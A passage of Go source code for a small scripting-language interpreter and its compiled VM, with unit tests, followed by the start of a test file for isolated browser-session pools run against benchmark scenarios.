		return "unknown"
	}
}

// numString renders a number the way string concatenation does;
// shared by both engines so console output stays byte-identical.
func numString(x float64) string {
	if x == math.Trunc(x) && math.Abs(x) < 1e15 {
		return strconv.FormatInt(int64(x), 10)
	}
	return strconv.FormatFloat(x, 'g', -1, 64)
}

// maxToStringDepth bounds recursion through nested (possibly cyclic)
// arrays and objects.
const maxToStringDepth = 64

// ToString renders a value the way string concatenation does.
func ToString(v Value) string { return toStringDepth(v, 0) }

func toStringDepth(v Value, depth int) string {
	switch x := v.(type) {
	case nil:
		return "null"
	case string:
		return x
	case bool:
		return strconv.FormatBool(x)
	case float64:
		return numString(x)
	case *Array:
		if depth >= maxToStringDepth {
			return "..."
		}
		parts := make([]string, len(x.Elems))
		for i, el := range x.Elems {
			parts[i] = toStringDepth(el, depth+1)
		}
		return strings.Join(parts, ",")
	case *Object:
		if depth >= maxToStringDepth {
			return "..."
		}
		keys := make([]string, 0, len(x.Props))
		for k := range x.Props {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		var b strings.Builder
		b.WriteString("{")
		for i, k := range keys {
			if i > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "%s: %s", k, toStringDepth(x.Props[k], depth+1))
		}
		b.WriteString("}")
		return b.String()
	case HostObject:
		return "[object " + x.HostName() + "]"
	case *Closure, *vmClosure:
		return "[function]"
	case NativeFunc, CtxFunc:
		return "[native function]"
	default:
		return fmt.Sprintf("%v", v)
	}
}
