package script

import (
	"strings"
	"testing"
)

// Additional edge-path coverage: value conversion corners, host
// object indexing, and less-traveled interpreter branches.

func TestToStringSpecialValues(t *testing.T) {
	if got := ToString(&Closure{}); got != "[function]" {
		t.Errorf("closure = %q", got)
	}
	if got := ToString(NativeFunc(func([]Value) (Value, error) { return nil, nil })); got != "[native function]" {
		t.Errorf("native = %q", got)
	}
	if got := ToString(&testHost{}); got != "[object TestHost]" {
		t.Errorf("host = %q", got)
	}
	if got := ToString(1.5e20); !strings.Contains(got, "e+") {
		t.Errorf("big float = %q", got)
	}
}

func TestTypeOfEverything(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`typeof [1];`, "array"},
		{`typeof console;`, "object"},
		{`typeof log;`, "function"},
		{`typeof (1 == 1);`, "boolean"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestHostObjectIndexAccess(t *testing.T) {
	env := StdEnv(&Console{})
	env.Define("host", &testHost{props: map[string]Value{"key": "val"}})
	ip := &Interp{}
	v, err := ip.RunSource(`host["key"];`, env)
	if err != nil || !Equals(v, "val") {
		t.Errorf("index get = %v, %v", v, err)
	}
	v, err = ip.RunSource(`host["key"] = "new"; host.key;`, env)
	if err != nil || !Equals(v, "new") {
		t.Errorf("index set = %v, %v", v, err)
	}
}

func TestObjectIndexedByNonString(t *testing.T) {
	if got := run(t, `var o = {}; o[5] = "five"; o["5"];`); !Equals(got, "five") {
		t.Errorf("got %v", got)
	}
}

func TestStringIndexOutOfRange(t *testing.T) {
	if got := run(t, `"ab"[9] == null;`); !Equals(got, true) {
		t.Errorf("got %v", got)
	}
	if got := run(t, `var a = [1]; a[9] == null;`); !Equals(got, true) {
		t.Errorf("got %v", got)
	}
}

func TestNegativeArrayIndexAssignErrors(t *testing.T) {
	ip := &Interp{}
	if _, err := ip.RunSource(`var a = []; a[-1] = 1;`, StdEnv(&Console{})); err == nil {
		t.Error("negative index assign must error")
	}
}

func TestWhileBreakContinue(t *testing.T) {
	src := `
var n = 0; var i = 0;
while (true) {
  i = i + 1;
  if (i > 10) { break; }
  if (i % 2 == 0) { continue; }
  n = n + 1;
}
n;`
	if got := run(t, src); !Equals(got, float64(5)) {
		t.Errorf("got %v", got)
	}
}

func TestUnaryErrors(t *testing.T) {
	ip := &Interp{}
	for _, src := range []string{`-"str";`, `"a" < 1;`, `({}) < 1;`} {
		if _, err := ip.RunSource(src, StdEnv(&Console{})); err == nil {
			t.Errorf("%s: want error", src)
		}
	}
}

func TestStringSubstringClamps(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`"hello".substring(3, 1);`, "el"}, // swapped
		{`"hello".substring(-5, 99);`, "hello"},
		{`"hello".substring(2);`, "llo"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestArrayJoinDefault(t *testing.T) {
	if got := run(t, `[1,2].join();`); !Equals(got, "1,2") {
		t.Errorf("got %v", got)
	}
}

func TestElseBranch(t *testing.T) {
	if got := run(t, `var r; if (false) { r = 1; } else { r = 2; } r;`); !Equals(got, float64(2)) {
		t.Errorf("got %v", got)
	}
}

func TestConsoleLogMultiArg(t *testing.T) {
	c := &Console{}
	ip := &Interp{}
	if _, err := ip.RunSource(`console.log(1, "a", true, null, [2]);`, StdEnv(c)); err != nil {
		t.Fatal(err)
	}
	if lines := c.Lines(); lines[0] != "1 a true null 2" {
		t.Errorf("lines = %v", lines)
	}
	// console is read-only.
	if _, err := ip.RunSource(`console.log = 1;`, StdEnv(c)); err == nil {
		t.Error("console assignment must error")
	}
}

func TestNumberBuiltinVariants(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{`Number(true);`, float64(1)},
		{`Number(false);`, float64(0)},
		{`Number();`, float64(0)},
		{`isNaN(Number([1]));`, true},
		{`String();`, ""},
		{`parseInt("-42");`, float64(-42)},
		{`isNaN(parseInt("abc"));`, true},
		{`decodeURIComponent(encodeURIComponent("a b/c"));`, "a b/c"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestTernaryNested(t *testing.T) {
	if got := run(t, `var x = 2; x == 1 ? "a" : x == 2 ? "b" : "c";`); !Equals(got, "b") {
		t.Errorf("got %v", got)
	}
}

func TestFunctionExpressionWithName(t *testing.T) {
	if got := run(t, `var f = function named(a) { return a + 1; }; f(1);`); !Equals(got, float64(2)) {
		t.Errorf("got %v", got)
	}
}

func TestMixedAddition(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{`1 + "a";`, "1a"},
		{`true + 1;`, "true1"}, // no numeric coercion: falls back to string
		{`null + "x";`, "nullx"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}
