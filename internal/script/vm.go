package script

import (
	"errors"
	"fmt"
	"math"
	"strconv"
	"strings"
)

// This file is the execution half of the compiled engine (compile.go
// is the lowering half). Compiled programs run on a VM whose operand
// representation is the unboxed vmval struct below, so arithmetic,
// comparisons, and variable traffic inside the VM never round-trip
// through interface boxing the way the tree-walking interpreter's
// Value (any) does. Values are boxed only at host boundaries: Env
// bindings, *Object/*Array element storage, native calls, and
// HostGet/HostSet.
//
// Variables live in slot arrays resolved at compile time, not maps: an
// identifier compiles to (scope hops, slot index) candidates, and a
// slot that is still unbound (its declaration has not executed yet)
// falls through to the next candidate and finally the host *Env chain,
// which is exactly the walk Env.Get performs in the interpreter.
//
// The interpreter's semantics are the spec. Every tick site, error
// message, and evaluation-order decision below mirrors eval.go
// exactly; FuzzCompileMatchesEval holds the two engines to identical
// results, errors, console output, and step counts.

// vkind tags a vmval.
type vkind uint8

const (
	vNull vkind = iota
	vNum
	vBool
	vStr
	vRef
	// vUnbound marks a declared-but-not-yet-executed slot. It never
	// escapes the variable accessors.
	vUnbound
)

// vmval is the VM's unboxed operand: numbers and booleans live in num
// (booleans as 0/1), strings in str, and everything else behind ref.
type vmval struct {
	kind vkind
	num  float64
	str  string
	ref  any
}

func vnum(f float64) vmval { return vmval{kind: vNum, num: f} }

func vbool(b bool) vmval {
	if b {
		return vmval{kind: vBool, num: 1}
	}
	return vmval{kind: vBool}
}

func vstr(s string) vmval { return vmval{kind: vStr, str: s} }

func vref(r any) vmval { return vmval{kind: vRef, ref: r} }

// smallNums holds pre-boxed interface values for the small integers
// that dominate host-boundary traffic (loop counters, property
// increments): converting a float64 to an interface allocates, and a
// tight counter loop would otherwise pay one heap box per store.
var smallNums = func() [257]Value {
	var t [257]Value
	for i := range t {
		t[i] = float64(i)
	}
	return t
}()

// numValue boxes a float64 for the host boundary through the
// small-integer intern table (natives returning loop-sized integers
// would otherwise heap-box every return).
func numValue(f float64) Value {
	if n := int(f); float64(n) == f && n >= 0 && n < len(smallNums) && !math.Signbit(f) {
		return smallNums[n]
	}
	return f
}

// box converts to the interface representation shared with hosts.
func box(v vmval) Value {
	switch v.kind {
	case vNull:
		return nil
	case vNum:
		// math.Signbit excludes -0.0, which must round-trip intact.
		if n := int(v.num); float64(n) == v.num && n >= 0 && n < len(smallNums) && !math.Signbit(v.num) {
			return smallNums[n]
		}
		return v.num
	case vBool:
		return v.num != 0
	case vStr:
		// A string that arrived through unbox (or a compile-time
		// constant) carries its original interface in ref: returning it
		// avoids re-boxing the string header on every host crossing.
		if v.ref != nil {
			return v.ref
		}
		return v.str
	default:
		return v.ref
	}
}

// unbox converts a host value into the VM representation.
func unbox(v Value) vmval {
	switch x := v.(type) {
	case nil:
		return vmval{}
	case float64:
		return vmval{kind: vNum, num: x}
	case bool:
		return vbool(x)
	case string:
		return vmval{kind: vStr, str: x, ref: v}
	default:
		return vmval{kind: vRef, ref: v}
	}
}

func boxArgs(args []vmval) []Value {
	out := make([]Value, len(args))
	for i, a := range args {
		out[i] = box(a)
	}
	return out
}

// truthy mirrors Truthy.
func truthy(v vmval) bool {
	switch v.kind {
	case vNull:
		return false
	case vBool:
		return v.num != 0
	case vNum:
		return v.num != 0 && !math.IsNaN(v.num)
	case vStr:
		return v.str != ""
	default:
		return true
	}
}

// typeOfV mirrors TypeOf.
func typeOfV(v vmval) string {
	switch v.kind {
	case vNull:
		return "null"
	case vNum:
		return "number"
	case vBool:
		return "boolean"
	case vStr:
		return "string"
	default:
		return TypeOf(v.ref)
	}
}

// vmToString mirrors ToString without boxing scalars.
// smallIntStr interns the rendered forms of small integers: loop
// counters flowing into string concatenation dominate number
// stringification, and numString re-formats on every call.
var smallIntStr = func() [257]string {
	var t [257]string
	for i := range t {
		t[i] = strconv.Itoa(i)
	}
	return t
}()

func vmToString(v vmval) string {
	switch v.kind {
	case vNull:
		return "null"
	case vStr:
		return v.str
	case vBool:
		return strconv.FormatBool(v.num != 0)
	case vNum:
		if n := int(v.num); float64(n) == v.num && n >= 0 && n < len(smallIntStr) {
			return smallIntStr[n]
		}
		return numString(v.num)
	default:
		return ToString(v.ref)
	}
}

// vmEquals mirrors Equals.
func vmEquals(l, r vmval) bool {
	if l.kind == vNull || r.kind == vNull {
		return l.kind == vNull && r.kind == vNull
	}
	switch l.kind {
	case vNum:
		return r.kind == vNum && l.num == r.num
	case vStr:
		return r.kind == vStr && l.str == r.str
	case vBool:
		return r.kind == vBool && (l.num != 0) == (r.num != 0)
	default:
		return r.kind == vRef && refEquals(l.ref, r.ref)
	}
}

// scope is one frame of the VM's lexical chain: a slot array whose
// layout the compiler fixed, a parent link, and the host *Env the
// chain bottoms out in (carried on every frame so accessors reach it
// without walking). Host bindings resolve after all slot candidates,
// and undeclared assignment defines at the host root, exactly like the
// interpreter's Env.
type scope struct {
	slots  []vmval
	parent *scope
	host   *Env
	inl    [4]vmval
}

// newScope allocates a frame with n unbound slots, inheriting the host
// environment from its parent. Small frames (the common case) use the
// inline slot array to stay a single allocation.
func newScope(parent *scope, n int) *scope {
	sc := &scope{parent: parent}
	if parent != nil {
		sc.host = parent.host
	}
	if n > 0 {
		if n <= len(sc.inl) {
			sc.slots = sc.inl[:n]
		} else {
			sc.slots = make([]vmval, n)
		}
		for i := range sc.slots {
			sc.slots[i].kind = vUnbound
		}
	}
	return sc
}

// slotRef is a compile-time resolved variable candidate: the slot at
// `hops` parent links up that may hold the name once its declaration
// has executed.
type slotRef struct {
	hops int
	slot int
}

// loadVar reads a variable through its slot candidates (innermost
// first), falling through unbound slots, and finally the host chain —
// the same walk as Env.Get.
func loadVar(sc *scope, refs []slotRef, name string) (vmval, bool) {
	cur, hops := sc, 0
	for _, r := range refs {
		for hops < r.hops {
			cur = cur.parent
			hops++
		}
		if v := cur.slots[r.slot]; v.kind != vUnbound {
			return v, true
		}
	}
	if sc.host != nil {
		if v, ok := sc.host.Get(name); ok {
			return unbox(v), true
		}
	}
	return vmval{}, false
}

// storeVar writes an existing binding (slot candidates, then the host
// chain), or defines at the host root, mirroring Env.assign.
func storeVar(sc *scope, refs []slotRef, name string, v vmval) {
	cur, hops := sc, 0
	for _, r := range refs {
		for hops < r.hops {
			cur = cur.parent
			hops++
		}
		if cur.slots[r.slot].kind != vUnbound {
			cur.slots[r.slot] = v
			return
		}
	}
	hostAssign(sc.host, name, v)
}

// hostAssign writes name into the env that already binds it, or
// defines it at the root of the env chain, mirroring Env.assign —
// including the envGen bump that invalidates dynamic-read caches.
func hostAssign(env *Env, name string, v vmval) {
	envGen.Add(1)
	if hs, ok := env.lookup(name); ok {
		hs.vars[name] = box(v)
		return
	}
	root := env
	for root.parent != nil {
		root = root.parent
	}
	root.vars[name] = box(v)
}

// ctrl is the VM's control-flow channel, replacing the interpreter's
// sentinel errors on the hot path. Break/continue escaping a function
// body still convert back to the sentinel errors so loops in a caller
// observe them identically to the interpreter.
type ctrl uint8

const (
	ctrlNone ctrl = iota
	ctrlBreak
	ctrlContinue
	ctrlReturn
)

// cexpr and cstmt are compiled nodes: pre-bound closures produced once
// per program by compile.go and re-executed per run.
type cexpr func(m *machine, sc *scope) (vmval, error)

type cstmt func(m *machine, sc *scope) (vmval, ctrl, error)

// compiledBlock is a compiled statement list. numSlots is non-zero iff
// the block declares anything; if zero, it runs directly in the
// enclosing scope (observably equivalent, since nothing could ever
// bind into the skipped frame).
type compiledBlock struct {
	stmts    []cstmt
	numSlots int
}

func (b *compiledBlock) exec(m *machine, sc *scope) (vmval, ctrl, error) {
	var last vmval
	for _, st := range b.stmts {
		v, ct, err := st(m, sc)
		if err != nil {
			return vmval{}, ctrlNone, err
		}
		if ct != ctrlNone {
			return v, ct, nil
		}
		last = v
	}
	return last, ctrlNone, nil
}

func (b *compiledBlock) execChild(m *machine, sc *scope) (vmval, ctrl, error) {
	if b.numSlots > 0 {
		sc = newScope(sc, b.numSlots)
	}
	return b.exec(m, sc)
}

// compiledFunc is a lowered function body. params holds the call-frame
// slot of each parameter; argsSlot is the slot for the implicit
// `arguments` Array, or -1 when the body never references it (so the
// per-call Array and the boxing it forces are skipped).
type compiledFunc struct {
	params   []int
	argsSlot int
	numSlots int
	body     compiledBlock
	// noCapture marks bodies containing no function literals: the call
	// frame provably outlives every reference to it, so the machine
	// recycles it through its scope pool instead of allocating.
	noCapture bool
}

// vmClosure is a compiled function bound to its captured scope.
type vmClosure struct {
	fn *compiledFunc
	sc *scope
}

// VM executes compiled programs. The zero value is ready to use;
// MaxSteps is the fuel budget (0 means the default shared with
// Interp).
type VM struct {
	// MaxSteps bounds execution; 0 means the default (1e6).
	MaxSteps int
	steps    int
}

// Steps reports the fuel consumed by the last Run.
func (vm *VM) Steps() int { return vm.steps }

// Run executes a compiled program against env, returning the value of
// the last expression statement like Interp.Run. A Compiled is
// immutable and may be Run concurrently by many VMs.
func (vm *VM) Run(c *Compiled, env *Env) (Value, error) {
	if vm.MaxSteps == 0 {
		vm.MaxSteps = defaultMaxSteps
	}
	if env == nil {
		env = NewEnv()
	}
	vm.steps = 0
	m := &machine{steps: &vm.steps, max: vm.MaxSteps}
	if c.dynCount > 0 {
		m.dynCache = make([]dynEnt, c.dynCount)
	}
	root := &scope{host: env}
	if n := len(c.topNames); n > 0 {
		root.slots = make([]vmval, n)
		for i := range root.slots {
			root.slots[i].kind = vUnbound
		}
	}
	v, ct, err := c.body.exec(m, root)
	// The interpreter defines top-level declarations straight into env
	// as they execute; flush the root frame so a shared env observes
	// the same bindings afterwards, including after an error.
	for i, name := range c.topNames {
		if root.slots[i].kind != vUnbound {
			env.Define(name, box(root.slots[i]))
		}
	}
	if err != nil {
		return nil, err
	}
	switch ct {
	case ctrlReturn:
		return box(v), nil // top-level return is tolerated
	case ctrlBreak:
		return nil, breakSignal{}
	case ctrlContinue:
		return nil, continueSignal{}
	}
	return box(v), nil
}

// RunSource parses, folds, compiles, and executes source in env.
func (vm *VM) RunSource(src string, env *Env) (Value, error) {
	c, err := CompileSource(src)
	if err != nil {
		return nil, err
	}
	return vm.Run(c, env)
}

// machine is one program execution: a fuel counter plus the engine
// surface native functions call back through. The counter is a pointer
// so a VM run and an interpreter that hands closures across the engine
// boundary can share one budget.
type machine struct {
	steps *int
	max   int
	// argbuf is a reusable argument stack: call sites append operand
	// values, slice off their window, and truncate after the call.
	// Nothing retains the raw window past the call (arguments and
	// native calls copy via boxArgs), so reuse is safe.
	argbuf []vmval
	// boxbuf is the same stack for boxed native-call arguments. The
	// module FFI contract is that args are only valid for the duration
	// of the call (natives copy what they keep), so the window can be
	// reused once the native returns.
	boxbuf []Value
	// pool recycles frames of noCapture functions and loops. Pooled
	// frames may pin values until the run ends; a machine lives for one
	// program execution, so that is bounded.
	pool []*scope
	// ctx is the reusable call context handed to CtxFuncs (same FFI
	// contract as args: valid only for the duration of the call). The
	// call path saves and restores line around each use, so nested
	// native calls see their own call sites.
	ctx Ctx
	// dynCache memoizes host-global reads per dynamic site (see
	// simpleOp.readDyn), validated against envGen.
	dynCache []dynEnt
}

// dynEnt is one dynamic-read cache entry. The op pointer guards
// against sites from different compilations sharing an ID.
type dynEnt struct {
	op   *simpleOp
	host *Env
	gen  uint64
	v    vmval
	ok   bool
}

// boxInto pushes boxed args onto boxbuf and returns the capped window;
// callers truncate back to base after the native returns. The cap
// keeps a native that appends to its args from clobbering the stack.
func (m *machine) boxInto(args []vmval) (bargs []Value, base int) {
	base = len(m.boxbuf)
	for _, a := range args {
		m.boxbuf = append(m.boxbuf, box(a))
	}
	return m.boxbuf[base:len(m.boxbuf):len(m.boxbuf)], base
}

// getScope returns a frame for a body that provably creates no
// closures (nothing can retain the frame past its exit), reusing a
// pooled one when available. Callers must pair it with putScope.
func (m *machine) getScope(parent *scope, n int) *scope {
	if len(m.pool) == 0 {
		return newScope(parent, n)
	}
	sc := m.pool[len(m.pool)-1]
	m.pool = m.pool[:len(m.pool)-1]
	sc.parent = parent
	sc.host = parent.host
	if n <= len(sc.inl) {
		sc.slots = sc.inl[:n]
	} else if cap(sc.slots) >= n {
		sc.slots = sc.slots[:n]
	} else {
		sc.slots = make([]vmval, n)
	}
	for i := range sc.slots {
		sc.slots[i] = vmval{kind: vUnbound}
	}
	return sc
}

func (m *machine) putScope(sc *scope) {
	sc.parent = nil
	sc.host = nil
	m.pool = append(m.pool, sc)
}

// fuelErr is the budget-exhaustion error, identical to Interp.tick's.
func fuelErr(line int) error {
	return &RuntimeError{Line: line, Msg: "infinite loop guard", Err: ErrTooManySteps}
}

// errUndefined mirrors the interpreter's unresolved-identifier error.
func errUndefined(line int, name string) error {
	return &RuntimeError{Line: line, Msg: fmt.Sprintf("undefined variable %q", name)}
}

// tick charges one execution step, identical to Interp.tick.
func (m *machine) tick(line int) error {
	*m.steps++
	if *m.steps > m.max {
		return fuelErr(line)
	}
	return nil
}

// callValue implements the engine interface for Ctx: host-facing,
// boxed signature.
func (m *machine) callValue(fn Value, args []Value, line int) (Value, error) {
	base := len(m.argbuf)
	for _, a := range args {
		m.argbuf = append(m.argbuf, unbox(a))
	}
	v, err := m.call(unbox(fn), m.argbuf[base:len(m.argbuf):len(m.argbuf)], line)
	m.argbuf = m.argbuf[:base]
	if err != nil {
		return nil, err
	}
	return box(v), nil
}

// call invokes closures and native functions, mirroring
// Interp.callValue.
func (m *machine) call(fn vmval, args []vmval, line int) (vmval, error) {
	if fn.kind == vRef {
		switch f := fn.ref.(type) {
		case *vmClosure:
			return m.callClosure(f.fn, f.sc, args)
		case NativeFunc:
			bargs, base := m.boxInto(args)
			v, err := f(bargs)
			m.boxbuf = m.boxbuf[:base]
			if err != nil {
				var re *RuntimeError
				if errors.As(err, &re) {
					return vmval{}, err
				}
				return vmval{}, &RuntimeError{Line: line, Msg: "native call failed", Err: err}
			}
			return unbox(v), nil
		case CtxFunc:
			bargs, base := m.boxInto(args)
			oldLine := m.ctx.line
			m.ctx.eng, m.ctx.line = m, line
			v, err := f(&m.ctx, bargs)
			m.ctx.line = oldLine
			m.boxbuf = m.boxbuf[:base]
			if err != nil {
				var re *RuntimeError
				if errors.As(err, &re) {
					return vmval{}, err
				}
				return vmval{}, &RuntimeError{Line: line, Msg: "native call failed", Err: err}
			}
			return unbox(v), nil
		case *Closure:
			// An interpreter closure handed in by the host: lower it on
			// the fly and overlay its captured environment.
			return m.callClosure(compileFuncLit(f.Fn, nil), &scope{host: f.Env}, args)
		}
	}
	return vmval{}, &RuntimeError{Line: line, Msg: fmt.Sprintf("%s is not a function", typeOfV(fn))}
}

func (m *machine) callClosure(cf *compiledFunc, parent *scope, args []vmval) (vmval, error) {
	var sc *scope
	pooled := cf.noCapture && parent != nil
	if pooled {
		sc = m.getScope(parent, cf.numSlots)
	} else {
		sc = newScope(parent, cf.numSlots)
	}
	for i, slot := range cf.params {
		if i < len(args) {
			sc.slots[slot] = args[i]
		} else {
			sc.slots[slot] = vmval{}
		}
	}
	if cf.argsSlot >= 0 {
		sc.slots[cf.argsSlot] = vref(&Array{Elems: boxArgs(args)})
	}
	v, ct, err := cf.body.exec(m, sc)
	if pooled {
		m.putScope(sc)
	}
	if err != nil {
		return vmval{}, err
	}
	switch ct {
	case ctrlReturn:
		return v, nil
	case ctrlBreak:
		// break/continue escaping a function body surface as the same
		// sentinel errors the interpreter produces, so an enclosing
		// loop in the caller treats them identically.
		return vmval{}, breakSignal{}
	case ctrlContinue:
		return vmval{}, continueSignal{}
	}
	return vmval{}, nil
}

// binaryOp mirrors the non-short-circuit half of Interp.evalBinary.
// The compiler specializes the hot operators (binFn); this generic
// form serves the folder and the specialized closures' slow paths.
func binaryOp(op string, l, r vmval, line int) (vmval, error) {
	switch op {
	case "+":
		if l.kind == vStr {
			return vstr(l.str + vmToString(r)), nil
		}
		if r.kind == vStr {
			return vstr(vmToString(l) + r.str), nil
		}
		if l.kind == vNum && r.kind == vNum {
			return vnum(l.num + r.num), nil
		}
		return vstr(vmToString(l) + vmToString(r)), nil
	case "-", "*", "/", "%":
		if l.kind != vNum || r.kind != vNum {
			return vmval{}, &RuntimeError{Line: line, Msg: fmt.Sprintf("operator %s needs numbers", op)}
		}
		switch op {
		case "-":
			return vnum(l.num - r.num), nil
		case "*":
			return vnum(l.num * r.num), nil
		case "/":
			return vnum(l.num / r.num), nil
		default:
			return vnum(fmod(l.num, r.num)), nil
		}
	case "==":
		return vbool(vmEquals(l, r)), nil
	case "!=":
		return vbool(!vmEquals(l, r)), nil
	case "<", ">", "<=", ">=":
		if l.kind == vStr {
			if r.kind != vStr {
				return vmval{}, &RuntimeError{Line: line, Msg: "comparing string with non-string"}
			}
			return vbool(compareOrdered(op, strings.Compare(l.str, r.str))), nil
		}
		if l.kind != vNum || r.kind != vNum {
			return vmval{}, &RuntimeError{Line: line, Msg: "comparison needs numbers or strings"}
		}
		switch {
		case l.num < r.num:
			return vbool(compareOrdered(op, -1)), nil
		case l.num > r.num:
			return vbool(compareOrdered(op, 1)), nil
		default:
			return vbool(compareOrdered(op, 0)), nil
		}
	}
	return vmval{}, &RuntimeError{Line: line, Msg: "unknown operator " + op}
}

// getMemberV mirrors Interp.getMember.
// arrayPushV and arrayJoinV are the unboxed forms of the Array
// methods in arrayMember, used by fused method calls to skip the
// per-access bound-closure allocation and []Value boxing. They must
// stay observably identical to their boxed twins.
func arrayPushV(r *Array, args []vmval) vmval {
	for _, a := range args {
		r.Elems = append(r.Elems, box(a))
	}
	return vnum(float64(len(r.Elems)))
}

func arrayJoinV(r *Array, args []vmval) vmval {
	sep := ","
	if len(args) > 0 {
		sep = vmToString(args[0])
	}
	parts := make([]string, len(r.Elems))
	for i, el := range r.Elems {
		parts[i] = ToString(el)
	}
	return vstr(strings.Join(parts, sep))
}

func getMemberV(recv vmval, name string, line int) (vmval, error) {
	switch recv.kind {
	case vStr:
		return unbox(stringMember(recv.str, name)), nil
	case vNull:
		return vmval{}, &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot read %q of null", name)}
	case vRef:
		switch r := recv.ref.(type) {
		case HostObject:
			v, err := r.HostGet(name)
			if err != nil {
				return vmval{}, &RuntimeError{Line: line, Msg: fmt.Sprintf("%s.%s", r.HostName(), name), Err: err}
			}
			return unbox(v), nil
		case *Object:
			return unbox(r.Props[name]), nil
		case *Array:
			return unbox(arrayMember(r, name)), nil
		}
	}
	return vmval{}, &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot read %q of %s", name, typeOfV(recv))}
}

// setMemberV mirrors Interp.setMember.
func setMemberV(recv vmval, name string, v vmval, line int) error {
	if recv.kind == vRef {
		switch r := recv.ref.(type) {
		case HostObject:
			if err := r.HostSet(name, box(v)); err != nil {
				return &RuntimeError{Line: line, Msg: fmt.Sprintf("%s.%s=", r.HostName(), name), Err: err}
			}
			return nil
		case *Object:
			r.Props[name] = box(v)
			return nil
		}
	}
	if recv.kind == vNull {
		return &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot set %q of null", name)}
	}
	return &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot set %q of %s", name, typeOfV(recv))}
}

// getIndexV mirrors Interp.getIndex.
func getIndexV(recv, idx vmval, line int) (vmval, error) {
	if recv.kind == vRef {
		switch r := recv.ref.(type) {
		case *Array:
			if idx.kind != vNum {
				return vmval{}, &RuntimeError{Line: line, Msg: "array index must be a number"}
			}
			i := int(idx.num)
			if i < 0 || i >= len(r.Elems) {
				return vmval{}, nil
			}
			return unbox(r.Elems[i]), nil
		case *Object:
			return unbox(r.Props[vmToString(idx)]), nil
		case HostObject:
			return getMemberV(recv, vmToString(idx), line)
		}
	}
	if recv.kind == vStr {
		if idx.kind != vNum {
			return unbox(stringMember(recv.str, vmToString(idx))), nil
		}
		i := int(idx.num)
		if i < 0 || i >= len(recv.str) {
			return vmval{}, nil
		}
		return vstr(string(recv.str[i])), nil
	}
	return vmval{}, &RuntimeError{Line: line, Msg: "cannot index " + typeOfV(recv)}
}

// setIndexV mirrors Interp.setIndex.
func setIndexV(recv, idx, v vmval, line int) error {
	if recv.kind == vRef {
		switch r := recv.ref.(type) {
		case *Array:
			if idx.kind != vNum {
				return &RuntimeError{Line: line, Msg: "array index must be a number"}
			}
			i := int(idx.num)
			if i < 0 {
				return &RuntimeError{Line: line, Msg: "negative array index"}
			}
			for len(r.Elems) <= i {
				r.Elems = append(r.Elems, nil)
			}
			r.Elems[i] = box(v)
			return nil
		case *Object:
			r.Props[vmToString(idx)] = box(v)
			return nil
		case HostObject:
			return setMemberV(recv, vmToString(idx), v, line)
		}
	}
	return &RuntimeError{Line: line, Msg: "cannot index-assign " + typeOfV(recv)}
}
