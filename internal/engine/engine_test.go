package engine

import (
	"fmt"
	"strings"
	"sync/atomic"
	"testing"

	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/mashup"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// benchNet builds a network serving the Figure-4 scenarios at
// http://bench.example.
func benchNet(t testing.TB) (*web.Network, origin.Origin) {
	t.Helper()
	net := web.NewNetwork()
	o := origin.MustParse("http://bench.example")
	net.Register(o, scenarios.Handler())
	return net, o
}

func TestPoolSessionsAreIsolated(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{Sessions: 4, Network: net})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()

	pool.Each(func(s *Session) error {
		_, err := s.Browser.Navigate(o.URL("/s1"))
		return err
	})
	st := pool.Stats()
	if len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
	if st.Tasks != 4 {
		t.Fatalf("tasks = %d, want 4", st.Tasks)
	}
	// Every session must own its own jar: each got its own copy of the
	// session cookie, not a shared one.
	for _, s := range pool.Sessions() {
		if _, ok := s.Browser.Jar().Get(o, scenarios.SessionCookie); !ok {
			t.Fatalf("session %d missing its own %s cookie", s.ID, scenarios.SessionCookie)
		}
		if n := s.Browser.History().Len(); n != 1 {
			t.Fatalf("session %d history length %d, want 1", s.ID, n)
		}
	}
}

func TestPoolSharedCacheAccumulatesHits(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{Sessions: 8, Network: net})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()

	const rounds = 4
	for r := 0; r < rounds; r++ {
		pool.Each(func(s *Session) error {
			for _, path := range scenarios.Paths() {
				if _, err := s.Browser.Navigate(o.URL(path)); err != nil {
					return err
				}
			}
			return nil
		})
	}
	st := pool.Stats()
	if len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
	if st.Decisions == 0 {
		t.Fatal("no monitor decisions recorded")
	}
	if st.Cache.Hits == 0 {
		t.Fatal("shared cache saw no hits across sessions")
	}
	if rate := st.Cache.HitRate(); rate < 0.5 {
		t.Fatalf("cache hit rate %.2f, want > 0.5 (stats %+v)", rate, st.Cache)
	}
}

func TestPoolSubmitQueueDistributesWork(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{Sessions: 8, Network: net})
	if err != nil {
		t.Fatal(err)
	}

	var ran atomic.Uint64
	const tasks = 64
	for i := 0; i < tasks; i++ {
		path := scenarios.Paths()[i%8]
		if err := pool.Submit(func(s *Session) error {
			ran.Add(1)
			_, err := s.Browser.Navigate(o.URL(path))
			return err
